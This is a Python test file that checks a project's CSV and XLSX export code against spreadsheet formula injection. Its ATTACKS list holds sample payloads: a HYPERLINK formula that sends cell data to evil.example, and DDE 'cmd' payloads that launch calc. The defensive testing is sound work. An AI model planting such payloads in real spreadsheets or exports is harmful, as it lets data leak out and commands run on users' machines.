"""Spreadsheet exports never turn text into a formula (OWASP CSV injection): dvctt/exports.py."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from dvctt import exports

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_roundtrip(values: list) -> list[str]:
    buffer = io.StringIO()
    csv.writer(buffer).writerow(exports.csv_row(values))
    return next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))


def _xlsx_roundtrip(values: list):
    from openpyxl import Workbook, load_workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append(exports.xlsx_row(sheet, values))
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    return next(iter(load_workbook(buffer).active.iter_rows()))


def test_dangerous_text_is_quoted_in_csv_and_a_string_cell_in_xlsx():
    assert _csv_roundtrip([*ATTACKS, 42, "Nguyễn Văn An"]) == [
        *("'" + attack for attack in ATTACKS),
        "42",
        "Nguyễn Văn An",
    ]
    cells = _xlsx_roundtrip([*ATTACKS, "#N/A", 42])
    for cell, attack in zip(cells, [*ATTACKS, "#N/A"], strict=False):
        # A string cell holding the text as typed (the pure-Python XML reader turns a carriage
        # return into a newline; with lxml installed, openpyxl keeps it as written).
        assert cell.data_type == "s" and cell.value in (attack, attack.replace("\r", "\n"))
    assert cells[-1].data_type == "n" and cells[-1].value == 42


@given(st.text(max_size=40))
def test_no_text_reaches_a_csv_cell_as_a_formula(text):
    [cell] = _csv_roundtrip([text])
    assert not cell.startswith(exports.FORMULA_PREFIXES)
    assert cell in (text, "'" + text)
    assert cell == text or text.startswith(exports.FORMULA_PREFIXES)


@given(st.text(min_size=1, max_size=40))
def test_no_text_reaches_an_xlsx_cell_as_a_formula(text):
    [cell] = _xlsx_roundtrip([text])
    if cell.value is not None:  # text made only of characters XML cannot hold is dropped
        assert cell.data_type == "s"
        assert isinstance(cell.value, str)
